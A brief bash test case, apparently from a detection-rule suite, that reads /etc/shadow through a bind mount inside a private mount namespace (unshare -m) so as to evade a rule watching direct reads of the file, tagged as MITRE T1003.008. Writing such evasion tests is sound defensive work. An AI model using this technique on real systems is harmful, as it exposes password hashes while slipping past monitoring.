# technique: T1003.008 through a bind mount inside a private mount namespace
# rule: read_credentials
# evasion-of: 01_shadow_read
# exe: /usr/bin/cat
# file: /etc/shadow
. "$(dirname "$0")/common.bash"
: >"$VG_TMP/m"
unshare -m sh -c "mount --bind /etc/shadow '$VG_TMP/m' && cat '$VG_TMP/m' >/dev/null"
